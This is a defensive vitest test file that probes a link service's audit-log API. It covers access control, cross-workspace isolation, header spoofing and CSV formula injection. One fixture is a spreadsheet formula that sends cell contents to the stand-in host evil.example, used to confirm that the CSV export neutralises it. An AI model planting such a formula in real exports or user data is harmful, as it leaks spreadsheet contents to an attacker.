// Attacks on the audit log (docs/workspaces.md, "Audit log"): roles below admin and keys without
// workspace:admin are refused; another workspace's events never appear, whatever the filters, the
// cursor or the workspace header say; a name typed to run as a spreadsheet formula is neutralised in
// the CSV; a client-sent prefix or agent header is not believed; and the client's address appears
// neither in the log nor in the services' logs, only its prefix.
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { type Caller, callAs, expectV1Error, type RawResponse, useSessionStack } from "./attack.ts";
import { keyOf, makeTeam, type Team } from "./team.ts";

const { bed } = useSessionStack(
  // info: the services log every request, so the check below reads what they would write in service.
  { SIGNIN_ATTEMPTS_PER_CLIENT: "1000", SESSION_RATE_LIMIT_PER_MINUTE: "100000", LOG_LEVEL: "info" },
  { inProcess: true },
);
const origin = () => bed.stack.origin;
/** A documentation address (RFC 5737): seen by the gateway through X-Forwarded-For (TRUST_PROXY). */
const CLIENT = "198.51.100.203";
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';

const from = (who: Caller, extra: Record<string, string> = {}): Caller => ({
  ...who,
  headers: { "x-forwarded-for": CLIENT, ...who.headers, ...extra },
});

let team: Team;
let rival: Team;
beforeAll(async () => {
  [team, rival] = await Promise.all([makeTeam(origin(), "audit"), makeTeam(origin(), "audit-rival")]);
}, 90_000);

const log = (who: Caller, query = "") => callAs(origin(), "GET", `/api/v1/audit-log${query}`, from(who));
const events = (res: RawResponse) => res.body.data.events as { id: string; resource_id: string | null }[];

describe("who may read it", () => {
  it("refuses members and viewers (403 naming workspace:admin), admits admins and owners", async () => {
    for (const role of ["member", "viewer"] as const) {
      const res = await log(team.people[role].session);
      expectV1Error(res, 403, "FORBIDDEN");
      expect(res.body.error.details).toEqual({ required_scope: "workspace:admin" });
      const csv = await log(team.people[role].session, "?format=csv");
      expectV1Error(csv, 403, "FORBIDDEN");
    }
    for (const role of ["admin", "owner"] as const)
      expect((await log(team.people[role].session)).status).toBe(200);
  });

  it("refuses an admin's key made without workspace:admin, and answers one made with it", async () => {
    const narrow = await keyOf(origin(), team.people.admin, ["links:read"]);
    expectV1Error(await log({ key: narrow }), 403, "FORBIDDEN");
    const wide = await keyOf(origin(), team.people.admin);
    expect((await log({ key: wide })).status).toBe(200);
  });

  it("lets only an owner change the retention", async () => {
    const path = `/api/v1/workspaces/${team.workspaceId}`;
    const before = await bed.prisma.account.findUniqueOrThrow({ where: { id: team.workspaceId } });
    const refused = await callAs(origin(), "PATCH", path, team.people.admin.session, {
      audit_retention_days: 1,
    });
    expectV1Error(refused, 403, "FORBIDDEN");
    for (const days of [0, 3651, 1.5]) {
      const bad = await callAs(origin(), "PATCH", path, team.people.owner.session, {
        audit_retention_days: days,
      });
      expectV1Error(bad, 400, "VALIDATION_ERROR");
    }
    const after = await bed.prisma.account.findUniqueOrThrow({ where: { id: team.workspaceId } });
    expect(after.auditRetentionDays).toBe(before.auditRetentionDays);
  });
});

describe("another workspace's events", () => {
  it("never appear, by filter, cursor or header", async () => {
    // The rival makes a link; its id is what an attacker would filter on.
    const rivalLink = await callAs(
      origin(),
      "POST",
      "/api/v1/links",
      { key: rival.ownerKey },
      {
        url: "https://rival.example/secret-plan",
      },
    );
    expect(rivalLink.status, rivalLink.text).toBe(201);
    const rivalIds = new Set(
      (await bed.prisma.auditEvent.findMany({ where: { accountId: rival.workspaceId } })).map((e) =>
        e.id.toString(),
      ),
    );
    expect(rivalIds.size).toBeGreaterThan(0);
    const owner = team.people.owner.session;
    const probes = [
      "",
      `?resource_id=${rivalLink.body.data.id}`,
      `?actor=${rival.people.owner.userId}`,
      // A cursor past every id: pages below it are still only the caller's.
      "?cursor=9223372036854775807",
    ];
    for (const probe of probes) {
      const res = await log(owner, probe);
      expect(res.status, probe).toBe(200);
      for (const e of events(res)) expect(rivalIds.has(e.id), probe).toBe(false);
    }
    expect(events(await log(owner, `?resource_id=${rivalLink.body.data.id}`))).toEqual([]);
    // Naming the rival's workspace in the header, as a non-member, is refused before any read.
    const named = await callAs(origin(), "GET", "/api/v1/audit-log", {
      ...owner,
      headers: { "x-workspace-id": rival.workspaceId },
    });
    expect(named.status).toBeGreaterThanOrEqual(400);
    const csv = await log(owner, "?format=csv");
    const rows: { id: string }[] = parse(csv.text, { columns: true });
    for (const row of rows) expect(rivalIds.has(row.id)).toBe(false);
  });
});

describe("what it holds", () => {
  it("neutralises a formula typed as a key name in the CSV", async () => {
    const key = await callAs(origin(), "POST", "/api/v1/account/keys", team.people.owner.session, {
      name: FORMULA,
      current_password: team.people.owner.password,
    });
    expect(key.status, key.text).toBe(201);
    // The key acts, so its name is an actor label too.
    const made = await callAs(origin(), "POST", "/api/v1/links", from({ key: key.body.data.key }), {
      url: "https://example.com/formula",
      title: FORMULA,
    });
    expect(made.status, made.text).toBe(201);
    const csv = await log(team.people.owner.session, "?format=csv");
    expect(csv.status).toBe(200);
    const rows: Record<string, string>[] = parse(csv.text, { columns: true });
    const labels = rows.filter((r) => r.actor_label?.includes("HYPERLINK"));
    expect(labels.length).toBeGreaterThan(0);
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(labels[0]!.actor_label).toBe(`'${FORMULA}`);
  });

  it("keeps only the /24 of the client's address and ignores prefix and agent headers a client sends", async () => {
    const res = await callAs(
      origin(),
      "POST",
      "/api/v1/links",
      from(
        { key: team.ownerKey },
        {
          "x-kurz-ip-prefix": "10.0.0.0/8",
          "x-kurz-agent": "Forged on Nowhere",
          "user-agent": "curl/8.5.0",
        },
      ),
      { url: "https://example.com/where-from" },
    );
    expect(res.status, res.text).toBe(201);
    const [event] = await bed.prisma.auditEvent.findMany({
      where: { accountId: team.workspaceId, resourceId: res.body.data.id },
    });
    expect(event).toMatchObject({ ipPrefix: "198.51.100.0/24", userAgentFamily: "curl" });

    const everything = await bed.prisma.$queryRaw<{ row: string }[]>`
      SELECT row_to_json(e)::text AS row FROM audit_events e`;
    for (const { row } of everything) expect(row).not.toContain(CLIENT);
    const logged = bed.stack.output();
    expect(logged).toContain("/api/v1/links");
    expect(logged).not.toContain(CLIENT);
  });
});
